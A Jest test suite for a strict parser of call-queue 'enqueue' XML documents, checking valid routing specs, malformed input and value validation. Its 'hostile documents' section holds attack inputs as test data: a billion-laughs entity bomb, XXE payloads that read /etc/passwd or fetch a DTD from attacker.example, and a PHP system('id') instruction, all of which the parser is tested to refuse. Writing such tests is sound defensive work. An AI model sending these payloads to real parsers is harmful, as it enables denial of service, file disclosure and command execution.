import {
  DEFAULT_PRIORITY,
  EnqueueXmlError,
  MAX_ENQUEUE_CHILDREN,
  MAX_ENQUEUE_XML_BYTES,
  parseEnqueueXml,
  type EnqueueXmlProblem,
} from '../../lib/acd/enqueueXml';
import { planOffer, type Candidate } from '../../lib/acd/strategies';
import { InvalidRequestError } from '../../lib/errors';

/** The error `parseEnqueueXml(xml)` throws; fails the test if it returns. */
function refusal(xml: string): EnqueueXmlError {
  try {
    parseEnqueueXml(xml);
  } catch (e) {
    if (e instanceof EnqueueXmlError) return e;
    throw e;
  }
  throw new Error(`accepted: ${xml}`);
}

function expectRefused(xml: string, problem: EnqueueXmlProblem, message: RegExp): EnqueueXmlError {
  const e = refusal(xml);
  expect({ problem: e.problem, message: e.message }).toEqual({ problem, message: expect.stringMatching(message) });
  return e;
}

describe('valid enqueue documents', () => {
  it('parses the DESIGN.md example: queue, priority, timeout, an agent and a skill condition', () => {
    expect(parseEnqueueXml('<enqueue queue="8000" priority="5" timeout="30"><agent id="1002"/><skill name="billing" min="3"/></enqueue>')).toEqual({
      root: 'enqueue',
      queue: '8000',
      priority: 5,
      prioritySet: true,
      timeoutSeconds: 30,
      conditions: { agents: ['1002'], skills: [{ name: 'billing', min: 3 }] },
    });
  });

  it('call_agent: one target agent, default priority and no timeout', () => {
    expect(parseEnqueueXml('<enqueue queue="8000"><agent id="1002"/></enqueue>')).toEqual({
      root: 'enqueue',
      queue: '8000',
      priority: DEFAULT_PRIORITY,
      prioritySet: false,
      conditions: { agents: ['1002'] },
    });
  });

  it('forward_agent: several agents and skill bounds, in any order', () => {
    const spec = parseEnqueueXml('<enqueue queue="8001" priority="100"><skill name="billing" min="3" max="7"/><agent id="1003"/><skill name="fr" max="2"/><agent id="1001"/></enqueue>');
    expect(spec.priority).toBe(100);
    expect(spec.prioritySet).toBe(true);
    expect(spec.conditions).toEqual({
      agents: ['1003', '1001'],
      skills: [
        { name: 'billing', min: 3, max: 7 },
        { name: 'fr', max: 2 },
      ],
    });
  });

  it('xfer_agent: a <queue> root means the same as <enqueue>', () => {
    expect(parseEnqueueXml('<queue queue="8000" timeout="86400"><skill name="sales"/></queue>')).toEqual({
      root: 'queue',
      queue: '8000',
      priority: DEFAULT_PRIORITY,
      prioritySet: false,
      timeoutSeconds: 86400,
      conditions: { skills: [{ name: 'sales' }] },
    });
  });

  it('accepts an empty comment', () => {
    expect(parseEnqueueXml('<!----><enqueue queue="8000"><!----></enqueue>').queue).toBe('8000');
  });

  it('a self-closing root selects any agent of the queue', () => {
    expect(parseEnqueueXml('<enqueue queue="8000"/>').conditions).toEqual({});
  });

  it('accepts an XML declaration, a BOM, comments, whitespace, single quotes and explicit end tags', () => {
    const xml = `\uFEFF<?xml version="1.0" encoding="UTF-8" standalone='yes'?>
      <!-- target: the billing desk -->
      <enqueue
          queue = '8000'
          priority="0" >
        <agent id="1002" ></agent>
        <!-- any billing agent at level 3 or more -->
        <skill name="billing" min="3"><!-- none --></skill>
      </enqueue >
      <!-- end -->
    `;
    expect(parseEnqueueXml(xml)).toEqual({ root: 'enqueue', queue: '8000', priority: 0, prioritySet: true, conditions: { agents: ['1002'], skills: [{ name: 'billing', min: 3 }] } });
  });

  it('decodes the predefined entities and numeric character references in attribute values', () => {
    expect(parseEnqueueXml('<enqueue queue="&#56;&#x30;00"><agent id="a&#46;b"/><agent id="&#x31;002"/></enqueue>')).toMatchObject({
      queue: '8000',
      conditions: { agents: ['a.b', '1002'] },
    });
    // Decoded values are validated like any other: '&amp;' decodes to '&', which no agent id contains.
    expectRefused('<enqueue queue="8000"><agent id="a&amp;b"/></enqueue>', 'invalid_value', /agent id 'a&b'/);
  });

  it('accepts exactly the byte limit and exactly the child limit', () => {
    const children = Array.from({ length: MAX_ENQUEUE_CHILDREN }, (_, i) => `<agent id="a${i}"/>`).join('');
    const body = `<enqueue queue="8000">${children}</enqueue>`;
    const padded = body + ' '.repeat(MAX_ENQUEUE_XML_BYTES - body.length);
    expect(Buffer.byteLength(padded)).toBe(MAX_ENQUEUE_XML_BYTES);
    expect(parseEnqueueXml(padded).conditions.agents).toHaveLength(MAX_ENQUEUE_CHILDREN);
  });

  it('its conditions plug straight into the offer plan', () => {
    const { conditions } = parseEnqueueXml('<enqueue queue="8000"><agent id="1002"/><agent id="1003"/><skill name="billing" min="3"/></enqueue>');
    const c = (id: string, billing: number): Candidate => ({ id, readySince: 0, order: 0, answeredCalls: 0, talkTimeMs: 0, skills: { billing } });
    expect(planOffer('longest_idle', [c('1001', 9), c('1002', 3), c('1003', 2)], conditions, { random: Math.random }).agents).toEqual(['1002']);
  });
});

describe('hostile documents', () => {
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<enqueue queue="8000"><agent id="&lol9;"/></enqueue>`;

  it('refuses billion laughs at the DOCTYPE, without expanding anything', () => {
    const e = expectRefused(billionLaughs, 'doctype', /DOCTYPE declarations are not allowed/);
    expect(e.offset).toBe(billionLaughs.indexOf('<!DOCTYPE'));
    expect(e.message).not.toMatch(/lollol/);
  });

  it('refuses an external entity (XXE) payload', () => {
    expectRefused('<?xml version="1.0"?><!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><enqueue queue="&xxe;"/>', 'doctype', /DOCTYPE/);
    expectRefused('<!DOCTYPE enqueue SYSTEM "http://attacker.example/x.dtd"><enqueue queue="8000"/>', 'doctype', /DOCTYPE/);
  });

  it('refuses an ENTITY declaration even without a DOCTYPE, and a DOCTYPE in any case or place', () => {
    expectRefused('<!ENTITY x "y"><enqueue queue="8000"/>', 'entity_declaration', /ENTITY declarations/);
    expectRefused('<enqueue queue="8000"><!doctype x></enqueue>', 'doctype', /DOCTYPE/);
    expectRefused('<enqueue queue="8000"/><!-- <!DOCTYPE x> -->', 'doctype', /DOCTYPE/);
  });

  it('refuses a reference to an undeclared entity instead of resolving it', () => {
    expectRefused('<enqueue queue="&xxe;"/>', 'undefined_entity', /undefined entity &xxe;/);
    expectRefused('<enqueue queue="8000"><agent id="&nbsp;"/></enqueue>', 'undefined_entity', /&nbsp;/);
  });

  it('refuses processing instructions other than the leading XML declaration', () => {
    expectRefused('<?xml-stylesheet href="x.xsl"?><enqueue queue="8000"/>', 'processing_instruction', /processing instructions/);
    expectRefused('<enqueue queue="8000"><?php system("id") ?></enqueue>', 'processing_instruction', /processing instructions/);
    expectRefused(' <?xml version="1.0"?><enqueue queue="8000"/>', 'processing_instruction', /only a leading/);
    expectRefused('<enqueue queue="8000"/><?xml version="1.0"?>', 'processing_instruction', /processing instructions/);
  });

  it('refuses CDATA sections', () => {
    expectRefused('<enqueue queue="8000"><![CDATA[<agent id="1"/>]]></enqueue>', 'cdata', /CDATA/);
  });

  it('refuses a document over the byte limit before parsing it, counting UTF-8 bytes', () => {
    const body = '<enqueue queue="8000"/>';
    expectRefused(body + ' '.repeat(MAX_ENQUEUE_XML_BYTES - body.length + 1), 'too_large', new RegExp(`${MAX_ENQUEUE_XML_BYTES + 1} bytes, the limit is ${MAX_ENQUEUE_XML_BYTES}`));
    // 3000 characters, 9000 bytes: the limit is on bytes.
    expectRefused(`<!-- ${'€'.repeat(3000)} -->${body}`, 'too_large', /9\d{3} bytes/);
    // Oversize wins over every other problem: nothing of the content is looked at.
    expectRefused(`<!DOCTYPE x>${'<'.repeat(MAX_ENQUEUE_XML_BYTES)}`, 'too_large', /limit/);
  });

  it('refuses more child elements than the limit', () => {
    const children = Array.from({ length: MAX_ENQUEUE_CHILDREN + 1 }, (_, i) => `<skill name="s${i}"/>`).join('');
    expectRefused(`<enqueue queue="8000">${children}</enqueue>`, 'too_many_children', new RegExp(`more than ${MAX_ENQUEUE_CHILDREN}`));
  });

  it('refuses characters XML does not allow, raw or as references', () => {
    expectRefused('<enqueue queue="8000"/>\u0000', 'invalid_character', /U\+0000/);
    expectRefused('<enqueue queue="80\u001b00"/>', 'invalid_character', /U\+001B/);
    expectRefused('<enqueue queue="8000"/>\uD800', 'invalid_character', /U\+D800/);
    expectRefused('<enqueue queue="8000"><agent id="&#0;"/></enqueue>', 'invalid_character', /&#0;/);
    expectRefused('<enqueue queue="8000"><agent id="&#xD800;"/></enqueue>', 'invalid_character', /&#xD800;/);
    expectRefused('<enqueue queue="8000"><agent id="&#x110000;"/></enqueue>', 'invalid_character', /&#x110000;/);
  });
});

describe('malformed documents', () => {
  it.each<[string, string, RegExp]>([
    ['empty input', '', /no root element/],
    ['only a declaration', '<?xml version="1.0"?>', /no root element/],
    ['text instead of a root', 'hello', /expected '<'/],
    ['unclosed root', '<enqueue queue="8000"><agent id="1002"/>', /<enqueue> is not closed/],
    ['unclosed child', '<enqueue queue="8000"><agent id="1002">', /<agent> is not closed/],
    ['tag cut off', '<enqueue queue="8000"', /end of input inside the <enqueue> tag/],
    ['mismatched end tag', '<enqueue queue="8000"><agent id="1002"></skill></enqueue>', /<\/skill> does not close <agent>/],
    ['end tag without >', '<enqueue queue="8000"></enqueue', /expected '>' to end <\/enqueue>/],
    ['unquoted attribute', '<enqueue queue=8000/>', /must be quoted/],
    ['attribute without value', '<enqueue queue/>', /expected '='/],
    ['unterminated attribute value', '<enqueue queue="8000/>', /unterminated attribute value/],
    ['no space between attributes', '<enqueue queue="8000"priority="1"/>', /expected whitespace/],
    ['raw < in a value', '<enqueue queue="8<00"/>', /'<' is not allowed in an attribute value/],
    ['bare &', '<enqueue queue="8000"><agent id="a & b"/></enqueue>', /'&' must start/],
    ['reference without ;', '<enqueue queue="8000"><agent id="&amp"/></enqueue>', /'&' must start/],
    ['malformed character reference', '<enqueue queue="8000"><agent id="&#x;"/></enqueue>', /malformed character reference/],
    ['two roots', '<enqueue queue="8000"/><enqueue queue="8001"/>', /unexpected content after <\/enqueue>/],
    ['text after the root', '<enqueue queue="8000"/>trailing', /unexpected content after/],
    ['unclosed comment', '<enqueue queue="8000"/><!-- never ends', /unclosed comment/],
    ['-- inside a comment', '<!-- a -- b --><enqueue queue="8000"/>', /'--' is not allowed/],
    ['a comment ending in ---> ', '<!-- a ---><enqueue queue="8000"/>', /'--' is not allowed/],
    ['other markup declaration', '<enqueue queue="8000"><!ELEMENT x ANY></enqueue>', /markup declarations are not allowed/],
    ['nested child', '<enqueue queue="8000"><agent id="1"><skill name="x"/></agent></enqueue>', /<agent> takes no content/],
    ['XML declaration without version', '<?xml encoding="UTF-8"?><enqueue queue="8000"/>', /version, encoding, standalone|without version/],
    ['XML version 1.1', '<?xml version="1.1"?><enqueue queue="8000"/>', /version must be 1.0/],
    ['XML declaration attributes out of order', '<?xml version="1.0" standalone="yes" encoding="UTF-8"?><enqueue queue="8000"/>', /in that order/],
  ])('%s is refused', (_what, xml, message) => {
    const e = refusal(xml);
    expect(e.message).toMatch(message);
    expect(['malformed', 'invalid_value']).toContain(e.problem);
  });

  it.each([
    ['text inside the root', '<enqueue queue="8000">1002</enqueue>', /text is not allowed inside <enqueue>/],
    ['an entity in text', '<enqueue queue="8000">&amp;</enqueue>', /text is not allowed/],
    ['text inside a child', '<enqueue queue="8000"><agent id="1">x</agent></enqueue>', /<agent> takes no content/],
  ])('%s is refused as text content', (_what, xml, message) => {
    expectRefused(xml, 'text_content', message);
  });

  it('names the offset of the problem', () => {
    const xml = '<enqueue queue="8000"><agent id="1002"/><agent idd="1003"/></enqueue>';
    expect(refusal(xml).offset).toBe(xml.indexOf('idd'));
  });

  it('is an invalid_request error, so REST answers 422', () => {
    const e = refusal('<enqueue/>');
    expect(e).toBeInstanceOf(InvalidRequestError);
    expect(e.code).toBe('invalid_request');
    expect(e.details).toEqual({ problem: 'missing_attribute', offset: 0 });
  });

  it('refuses a value that is not a string', () => {
    expect(() => parseEnqueueXml(42 as unknown as string)).toThrow(EnqueueXmlError);
  });
});

describe('validation', () => {
  it.each<[string, string, EnqueueXmlProblem, RegExp]>([
    ['an unknown root', '<dequeue queue="8000"/>', 'unknown_element', /root element must be <enqueue> or <queue>, not <dequeue>/],
    ['a namespaced root', '<x:enqueue queue="8000"/>', 'unknown_element', /not <x:enqueue>/],
    ['an unknown child', '<enqueue queue="8000"><group id="1"/></enqueue>', 'unknown_element', /unknown element <group>/],
    ['an unknown root attribute', '<enqueue queue="8000" prio="5"/>', 'unknown_attribute', /unknown attribute 'prio' on <enqueue> \(allowed: queue, priority, timeout\)/],
    ['an unknown agent attribute', '<enqueue queue="8000"><agent id="1" name="x"/></enqueue>', 'unknown_attribute', /'name' on <agent>/],
    ['an unknown skill attribute', '<enqueue queue="8000"><skill name="x" level="3"/></enqueue>', 'unknown_attribute', /'level' on <skill>/],
    ['a duplicate attribute', '<enqueue queue="8000" queue="8001"/>', 'duplicate_attribute', /duplicate attribute 'queue' on <enqueue>/],
    ['a missing queue', '<enqueue priority="1"/>', 'missing_attribute', /<enqueue> requires the 'queue' attribute/],
    ['a missing agent id', '<enqueue queue="8000"><agent/></enqueue>', 'missing_attribute', /<agent> requires the 'id'/],
    ['a missing skill name', '<enqueue queue="8000"><skill min="1"/></enqueue>', 'missing_attribute', /<skill> requires the 'name'/],
    ['a queue that is not a number', '<enqueue queue="sales"/>', 'invalid_value', /queue 'sales' is not a queue number/],
    ['a queue with spaces', '<enqueue queue=" 8000"/>', 'invalid_value', /queue ' 8000'/],
    ['a one-digit queue', '<enqueue queue="8"/>', 'invalid_value', /2-16 digits/],
    ['a non-numeric priority', '<enqueue queue="8000" priority="high"/>', 'invalid_value', /priority on <enqueue> must be an integer, not 'high'/],
    ['a fractional priority', '<enqueue queue="8000" priority="5.0"/>', 'invalid_value', /must be an integer, not '5.0'/],
    ['a signed priority', '<enqueue queue="8000" priority="+5"/>', 'invalid_value', /must be an integer/],
    ['an empty priority', '<enqueue queue="8000" priority=""/>', 'invalid_value', /must be an integer, not ''/],
    ['a priority above 100', '<enqueue queue="8000" priority="101"/>', 'out_of_range', /priority on <enqueue> must be 0..100, not 101/],
    ['a negative priority', '<enqueue queue="8000" priority="-1"/>', 'out_of_range', /must be 0..100, not -1/],
    ['a huge priority', `<enqueue queue="8000" priority="${'9'.repeat(400)}"/>`, 'out_of_range', /must be 0..100/],
    ['a non-numeric timeout', '<enqueue queue="8000" timeout="30s"/>', 'invalid_value', /timeout on <enqueue> must be an integer, not '30s'/],
    ['a zero timeout', '<enqueue queue="8000" timeout="0"/>', 'out_of_range', /timeout on <enqueue> must be 1..86400, not 0/],
    ['a timeout over a day', '<queue queue="8000" timeout="86401"/>', 'out_of_range', /timeout on <queue> must be 1..86400, not 86401/],
    ['a skill level above 100', '<enqueue queue="8000"><skill name="x" min="101"/></enqueue>', 'out_of_range', /min on <skill> must be 0..100/],
    ['a non-numeric skill level', '<enqueue queue="8000"><skill name="x" max="high"/></enqueue>', 'invalid_value', /max on <skill> must be an integer/],
    ['min above max', '<enqueue queue="8000"><skill name="x" min="5" max="3"/></enqueue>', 'out_of_range', /skill 'x': min 5 is greater than max 3/],
    ['an invalid agent id', '<enqueue queue="8000"><agent id="10 02"/></enqueue>', 'invalid_value', /agent id '10 02' is not a valid agent id/],
    ['an empty agent id', '<enqueue queue="8000"><agent id=""/></enqueue>', 'invalid_value', /agent id ''/],
    ['an invalid skill name', '<enqueue queue="8000"><skill name="bill ing"/></enqueue>', 'invalid_value', /skill name 'bill ing'/],
    ['a duplicate agent', '<enqueue queue="8000"><agent id="1002"/><agent id="1002"/></enqueue>', 'duplicate_condition', /agent '1002' is listed twice/],
    ['a duplicate skill', '<enqueue queue="8000"><skill name="x" min="1"/><skill name="x" max="5"/></enqueue>', 'duplicate_condition', /skill 'x' is listed twice/],
  ])('refuses %s', (_what, xml, problem, message) => {
    expectRefused(xml, problem, message);
  });
});
